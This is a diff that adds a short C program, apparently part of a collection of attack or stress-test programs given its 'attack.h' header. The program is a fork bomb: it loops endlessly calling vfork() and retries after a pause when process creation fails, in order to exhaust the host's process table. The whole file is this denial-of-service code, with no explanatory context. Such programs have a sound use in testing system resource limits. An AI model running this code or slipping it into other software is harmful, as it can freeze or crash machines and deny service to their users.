@@ -1,0 +1,8 @@
+#include "attack.h"
+
+int	main(void)
+{
+	for (;;)
+		if (vfork() == -1)
+			rest(1);
+}
